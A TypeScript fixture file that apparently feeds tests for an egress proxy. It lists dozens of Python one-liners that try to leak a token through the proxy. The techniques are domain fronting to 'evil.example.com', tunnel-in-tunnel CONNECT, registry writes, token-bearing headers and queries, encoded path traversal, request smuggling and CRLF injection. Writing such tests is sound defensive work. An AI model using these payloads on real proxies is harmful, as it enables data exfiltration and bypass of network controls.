import { attemptsOf } from '../attempt.ts';

const usual = { way: 'proxy', goal: 'heard', language: 'python' } as const;

/** Through the proxy, to a host that is allowed, with more than a rule allows. */
export const proxiedRequests = [
  ...attemptsOf(
    { ...usual, category: 'proxy: fronting' },
    {
      'another Host in the tunnel': `tunnel(get('/pkg/' + TOKEN, EVIL))`,
      'another name in the handshake': `tunnel(get('/pkg/' + TOKEN), name='evil.example.com')`,
      'no name in the handshake': `tunnel(get('/pkg/' + TOKEN), name=None)`,
      'no Host': `tunnel('GET /pkg/%s HTTP/1.1\\r\\n\\r\\n' % TOKEN)`,
      'two Hosts': `tunnel(get('/pkg/' + TOKEN, more='Host: %s\\r\\n' % EVIL))`,
      'an absolute target in the tunnel': `tunnel(get('http://%s/%s' % (EVIL, TOKEN)))`,
      'a tunnel in the tunnel': `tunnel('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\nGET /%s HTTP/1.1\\r\\n\\r\\n' % (EVIL, EVIL, TOKEN))`,
      'a second request to another host': `tunnel(get('/pkg/a') + get('/pkg/' + TOKEN, EVIL))`,
      'a second request to another host, without TLS': `proxy(get('http://plain.example.com:%d/pkg/a' % PORT, 'plain.example.com:%d' % PORT) + get('http://%s/%s' % (EVIL, TOKEN), EVIL)); time.sleep(0.3)`,
    },
  ),
  ...attemptsOf(
    { ...usual, category: 'proxy: writing to a registry' },
    {
      PUT: `tunnel(get('/pkg/' + TOKEN, more='Content-Length: 0\\r\\n', method='PUT'))`,
      POST: `tunnel(get('/pkg/a', more='Content-Length: %d\\r\\n' % len(TOKEN), method='POST') + TOKEN)`,
      DELETE: `tunnel(get('/pkg/' + TOKEN, method='DELETE'))`,
      TRACE: `tunnel(get('/pkg/' + TOKEN, method='TRACE'))`,
      PATCH: `tunnel(get('/pkg/' + TOKEN, more='Content-Length: 0\\r\\n', method='PATCH'))`,
      'GET that is to be taken for PUT': `tunnel(get('/pkg/a', more='X-HTTP-Method-Override: PUT\\r\\nX-Token: %s\\r\\n' % TOKEN))`,
      'PUT without TLS': `plain('/pkg/' + TOKEN, more='Content-Length: 0\\r\\n', method='PUT')`,
      'PUT with curl': `subprocess.run(['curl', '-sk', '-m', '3', '-x', 'http://127.0.0.1:%d' % PROXY, '-T', '-', 'https://%s/pkg/%s' % (REGISTRY, TOKEN)], input=b'x')`,
    },
  ),
  ...attemptsOf(
    { ...usual, category: 'proxy: telling something' },
    {
      'a query': `tunnel(get('/pkg/a?' + TOKEN))`,
      'a query without TLS': `plain('/pkg/a?q=' + TOKEN)`,
      'a fragment': `tunnel(get('/pkg/a#' + TOKEN))`,
      'a body with GET': `tunnel(get('/pkg/a', more='Content-Length: %d\\r\\n' % len(TOKEN)) + TOKEN)`,
      'a body in chunks with GET': `tunnel(get('/pkg/a', more='Transfer-Encoding: chunked\\r\\n') + '%x\\r\\n%s\\r\\n0\\r\\n\\r\\n' % (len(TOKEN), TOKEN))`,
      'a login': `tunnel(get('/pkg/a', more='Authorization: Bearer %s\\r\\n' % TOKEN))`,
      'a cookie': `tunnel(get('/pkg/a', more='Cookie: a=%s\\r\\n' % TOKEN))`,
      'a referrer': `tunnel(get('/pkg/a', more='Referer: %s\\r\\n' % TOKEN))`,
      'a header of its own': `tunnel(get('/pkg/a', more='X-Token: %s\\r\\n' % TOKEN))`,
      'the name of a header': `tunnel(get('/pkg/a', more='X-%s: 1\\r\\n' % TOKEN))`,
      "a session of npm's": `tunnel(get('/pkg/a', more='npm-session: %s\\r\\n' % TOKEN))`,
      'another path': `tunnel(get('/private/' + TOKEN))`,
      'a path that climbs out': `tunnel(get('/pkg/../private/' + TOKEN))`,
      'a path that climbs out in percent code': `tunnel(get('/pkg/%2e%2e/private/' + TOKEN))`,
      'a path that climbs out in double percent code': `tunnel(get('/pkg/%252e%252e/private/' + TOKEN))`,
      'a path that climbs out by encoded slashes': `tunnel(get('/pkg/..%2fprivate%2f' + TOKEN))`,
      'a path that climbs out by backslashes': `tunnel(get('/pkg/..\\\\private\\\\' + TOKEN))`,
      'a path that climbs out behind a semicolon': `tunnel(get('/pkg/..;/private/' + TOKEN))`,
      'an empty segment': `tunnel(get('//pkg/' + TOKEN))`,
    },
  ),
  ...attemptsOf(
    { ...usual, category: 'proxy: other readings' },
    {
      'bare line feeds': `tunnel(get('/pkg/' + TOKEN).replace('\\r\\n', '\\n'))`,
      'a folded header': `tunnel(get('/pkg/a', more='Accept: a\\r\\n %s\\r\\n' % TOKEN))`,
      'a length and chunks': `tunnel(get('/pkg/a', more='Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n') + '0\\r\\n\\r\\n' + get('/' + TOKEN, EVIL))`,
      'two lengths': `tunnel(get('/pkg/a', more='Content-Length: 0\\r\\nContent-Length: 60\\r\\n') + get('/' + TOKEN, EVIL))`,
      'a request within a body': `tunnel(get('/pkg/a', more='Content-Length: 200\\r\\n') + get('/' + TOKEN, EVIL))`,
      'an encoding that nobody knows': `tunnel(get('/pkg/a', more='Transfer-Encoding: x%s\\r\\n' % TOKEN))`,
      'a line break in a header': `tunnel(get('/pkg/a', more='Accept: a\\rX-Token: %s\\r\\n' % TOKEN))`,
      'a line break in the path': `tunnel(get('/pkg/a%0d%0aX-Token:' + TOKEN))`,
      'a header beyond ASCII': `tunnel(get('/pkg/a', more='Accept: \\xff%s\\r\\n' % TOKEN))`,
      'a change to WebSocket': `tunnel(get('/pkg/' + TOKEN, more='Connection: upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: x\\r\\n'))`,
      'a change to HTTP/2': `plain('/pkg/' + TOKEN, more='Connection: upgrade\\r\\nUpgrade: h2c\\r\\n')`,
      'HTTP/2 without asking': `tunnel(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + TOKEN.encode(), alpn=['h2', 'http/1.1'])`,
      'an old HTTP': `tunnel(get('/pkg/' + TOKEN, version='1.0'))`,
      'a trailer': `tunnel(get('/pkg/a', more='Transfer-Encoding: chunked\\r\\nTrailer: X\\r\\n') + '0\\r\\nX: %s\\r\\n\\r\\n' % TOKEN)`,
    },
  ),
];
